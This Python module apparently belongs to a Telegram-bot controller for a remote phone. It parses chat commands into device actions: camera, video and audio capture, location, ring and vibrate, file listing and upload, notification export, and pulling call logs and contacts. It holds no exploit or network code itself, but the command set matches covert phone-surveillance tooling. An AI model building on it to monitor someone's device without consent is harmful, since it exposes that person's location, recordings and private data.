"""Turn normalized Telegram events into relay commands.

Parsing is pure: no network calls and no state. The one piece of an upload
that needs the Bot API (the download URL) is left unset on the resulting
:class:`SendUploadCommand` and resolved by the relay service.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional, Sequence, Union

from ...core.commands import (
    CAPTURE_AUDIO,
    CAPTURE_LOCATION,
    CAPTURE_PHOTO,
    CAPTURE_RING,
    CAPTURE_VIBRATE,
    CAPTURE_VIDEO,
    DEFAULT_ORDER,
    DEFAULT_SORT,
    INFO_CALL_LOGS,
    INFO_CONTACTS,
    NOTI_ADD,
    NOTI_CLEAR,
    NOTI_EXPORT,
    NOTI_REMOVE,
    NOTI_VIEW,
    SORT_KEYS,
    SORT_ORDERS,
    STAGE_MENU,
    STAGE_PICK,
    CaptureCommand,
    Command,
    InfoCommand,
    ListCommand,
    NotificationCommand,
    SendUploadCommand,
)
from ..chat.models import (
    CallbackEvent,
    ChatAttachment,
    ChatEvent,
    TextEvent,
    UploadEvent,
)
from .callback_codec import callback_to_command
from .constants import (
    REGISTER_COMMAND,
    UPLOAD_COMMAND,
    UPLOAD_DEFAULT_FILE_NAMES,
    UPLOAD_MEDIA_PRIORITY,
)

DEFAULT_CAMERA = "front"
FLASH_ON = "flash_on"
PHOTO_QUALITY = 1080
DEFAULT_VIDEO_DURATION = 1
DEFAULT_VIDEO_QUALITY = 480
DEFAULT_AUDIO_DURATION = 1

REGISTER_USAGE = f"Usage: {REGISTER_COMMAND} <nickname>"


@dataclass(frozen=True)
class ParsedCommand:
    command: Command
    callback_id: Optional[str] = None


@dataclass(frozen=True)
class RegisterRequest:
    chat_id: str
    scope: str
    nickname: str


@dataclass(frozen=True)
class UsageReply:
    chat_id: str
    text: str


@dataclass(frozen=True)
class UnknownCommand:
    chat_id: str
    name: str


@dataclass(frozen=True)
class Ignored:
    reason: str
    chat_id: Optional[str] = None
    callback_id: Optional[str] = None


ParseResult = Union[ParsedCommand, RegisterRequest, UsageReply, UnknownCommand, Ignored]

_TextHandler = Callable[[str, str, list[str]], Command]


def parse_event(event: Optional[ChatEvent], *, scope: str) -> ParseResult:
    if event is None:
        return Ignored("Ignored")
    if isinstance(event, CallbackEvent):
        command = callback_to_command(event.data, chat_id=event.chat_id, scope=scope)
        if command is None:
            return Ignored(
                "Unknown callback",
                chat_id=event.chat_id,
                callback_id=event.callback_id,
            )
        return ParsedCommand(command=command, callback_id=event.callback_id)
    if isinstance(event, UploadEvent):
        return _parse_upload(event, scope=scope)
    if isinstance(event, TextEvent):
        return _parse_text(event, scope=scope)
    return Ignored("Ignored")


def select_upload_attachment(
    attachments: Sequence[ChatAttachment],
) -> Optional[ChatAttachment]:
    """Pick the media item a ``/send`` upload refers to.

    Documents win over photos, photos over videos, videos over audio. Among
    photo sizes the largest resolution is used.
    """
    for kind in UPLOAD_MEDIA_PRIORITY:
        candidates = [item for item in attachments if item.kind == kind]
        if not candidates:
            continue
        if kind != "photo":
            return candidates[0]
        return max(
            enumerate(candidates),
            key=lambda pair: (
                (pair[1].width or 0) * (pair[1].height or 0),
                pair[1].size_bytes or 0,
                pair[0],
            ),
        )[1]
    return None


def _parse_upload(event: UploadEvent, *, scope: str) -> ParseResult:
    parts = event.caption.split()
    if not parts or parts[0] != UPLOAD_COMMAND:
        return Ignored("Ignored", chat_id=event.chat_id)
    attachment = select_upload_attachment(event.attachments)
    if attachment is None:
        return Ignored(f"No file attached to {UPLOAD_COMMAND}", chat_id=event.chat_id)
    file_name = UPLOAD_DEFAULT_FILE_NAMES[attachment.kind]
    if attachment.kind == "document" and attachment.file_name:
        file_name = attachment.file_name
    return ParsedCommand(
        command=SendUploadCommand(
            chat_id=event.chat_id,
            scope=scope,
            file_name=file_name,
            target_path=" ".join(parts[1:]),
            file_id=attachment.file_id,
        )
    )


def _parse_text(event: TextEvent, *, scope: str) -> ParseResult:
    parts = event.text.split()
    if not parts or not parts[0].startswith("/"):
        return Ignored("Ignored", chat_id=event.chat_id)
    name, args = parts[0], parts[1:]
    if name == REGISTER_COMMAND:
        if not args:
            return UsageReply(chat_id=event.chat_id, text=REGISTER_USAGE)
        return RegisterRequest(chat_id=event.chat_id, scope=scope, nickname=args[0])
    handler = _TEXT_COMMANDS.get(name)
    if handler is None:
        return UnknownCommand(chat_id=event.chat_id, name=name)
    return ParsedCommand(command=handler(event.chat_id, scope, args))


def _arg(args: Sequence[str], index: int) -> Optional[str]:
    return args[index] if len(args) > index else None


def _int_arg(args: Sequence[str], index: int, default: int) -> int:
    raw = _arg(args, index)
    if raw is None:
        return default
    try:
        return int(raw)
    except ValueError:
        return default


def _camera(args: Sequence[str]) -> str:
    return (_arg(args, 0) or DEFAULT_CAMERA).lower()


def _flash(args: Sequence[str]) -> bool:
    return (_arg(args, 1) or "").lower() == FLASH_ON


def _photo(chat_id: str, scope: str, args: list[str]) -> Command:
    return CaptureCommand(
        chat_id=chat_id,
        scope=scope,
        kind=CAPTURE_PHOTO,
        camera=_camera(args),
        flash=_flash(args),
        quality=PHOTO_QUALITY,
    )


def _video(chat_id: str, scope: str, args: list[str]) -> Command:
    return CaptureCommand(
        chat_id=chat_id,
        scope=scope,
        kind=CAPTURE_VIDEO,
        camera=_camera(args),
        flash=_flash(args),
        duration=_int_arg(args, 2, DEFAULT_VIDEO_DURATION),
        quality=_int_arg(args, 3, DEFAULT_VIDEO_QUALITY),
    )


def _audio(chat_id: str, scope: str, args: list[str]) -> Command:
    return CaptureCommand(
        chat_id=chat_id,
        scope=scope,
        kind=CAPTURE_AUDIO,
        duration=_int_arg(args, 0, DEFAULT_AUDIO_DURATION),
    )


def _bare_capture(kind: str) -> _TextHandler:
    def build(chat_id: str, scope: str, _args: list[str]) -> Command:
        return CaptureCommand(chat_id=chat_id, scope=scope, kind=kind)

    return build


def parse_list_arguments(args: Sequence[str]) -> tuple[str, str, str]:
    """Split ``/list`` arguments into ``(sort, order, path)``.

    A leading sort key and then an order keyword are consumed only when they
    match; whatever remains is the path, re-joined with single spaces.
    """
    remaining = list(args)
    sort, order = DEFAULT_SORT, DEFAULT_ORDER
    if remaining and remaining[0].lower() in SORT_KEYS:
        sort = remaining.pop(0).lower()
    if remaining and remaining[0].lower() in SORT_ORDERS:
        order = remaining.pop(0).lower()
    return sort, order, " ".join(remaining)


def _list(chat_id: str, scope: str, args: list[str]) -> Command:
    sort, order, path = parse_list_arguments(args)
    return ListCommand(chat_id=chat_id, scope=scope, path=path, sort=sort, order=order)


def _noti_menu(action: str) -> _TextHandler:
    def build(chat_id: str, scope: str, _args: list[str]) -> Command:
        return NotificationCommand(
            chat_id=chat_id, scope=scope, action=action, stage=STAGE_MENU
        )

    return build


def _noti_pick(action: str) -> _TextHandler:
    def build(chat_id: str, scope: str, args: list[str]) -> Command:
        return NotificationCommand(
            chat_id=chat_id,
            scope=scope,
            action=action,
            stage=STAGE_PICK,
            pkg=_arg(args, 0) or "",
        )

    return build


def _info(kind: str) -> _TextHandler:
    def build(chat_id: str, scope: str, _args: list[str]) -> Command:
        return InfoCommand(chat_id=chat_id, scope=scope, kind=kind)

    return build


_TEXT_COMMANDS: dict[str, _TextHandler] = {
    "/photo": _photo,
    "/video": _video,
    "/audio": _audio,
    "/location": _bare_capture(CAPTURE_LOCATION),
    "/ring": _bare_capture(CAPTURE_RING),
    "/vibrate": _bare_capture(CAPTURE_VIBRATE),
    "/list": _list,
    "/notiadd": _noti_menu(NOTI_ADD),
    "/notiaddpick": _noti_pick(NOTI_ADD),
    "/notiremove": _noti_menu(NOTI_REMOVE),
    "/notiremovepick": _noti_pick(NOTI_REMOVE),
    "/noti": _noti_menu(NOTI_VIEW),
    "/notipick": _noti_pick(NOTI_VIEW),
    "/noticlear": _noti_menu(NOTI_CLEAR),
    "/noticlearpick": _noti_pick(NOTI_CLEAR),
    "/notiexport": _noti_menu(NOTI_EXPORT),
    "/notiexportpick": _noti_pick(NOTI_EXPORT),
    "/calllogs": _info(INFO_CALL_LOGS),
    "/contacts": _info(INFO_CONTACTS),
}


def known_commands() -> list[str]:
    return sorted([REGISTER_COMMAND, *_TEXT_COMMANDS])
